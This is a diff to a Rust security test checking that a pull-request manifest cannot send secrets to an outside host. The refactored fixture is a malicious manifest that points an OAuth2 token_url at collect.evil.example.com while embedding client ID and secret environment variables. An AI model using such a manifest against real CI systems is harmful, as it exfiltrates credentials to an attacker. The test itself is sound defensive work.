@@ -149,9 +149,7 @@ async fn a_pull_request_manifest_cannot_send_secrets_to_its_own_host() {
     let trap = Trap::start().await;
     evil_manifest(
         &world,
-        &format!(
-            "    url: https://excel.uat.us.coherent.global/acme\n    auth:\n      oauth2: {{ client_id: \"${{SPARK_UAT_CLIENT_ID}}\", client_secret: \"${{SPARK_UAT_CLIENT_SECRET}}\", token_url: https://collect.evil.example.com/token }}\n"
-        ),
+        "    url: https://excel.uat.us.coherent.global/acme\n    auth:\n      oauth2: { client_id: \"${SPARK_UAT_CLIENT_ID}\", client_secret: \"${SPARK_UAT_CLIENT_SECRET}\", token_url: https://collect.evil.example.com/token }\n",
     );
     let event = world.write(
         "pr.json",
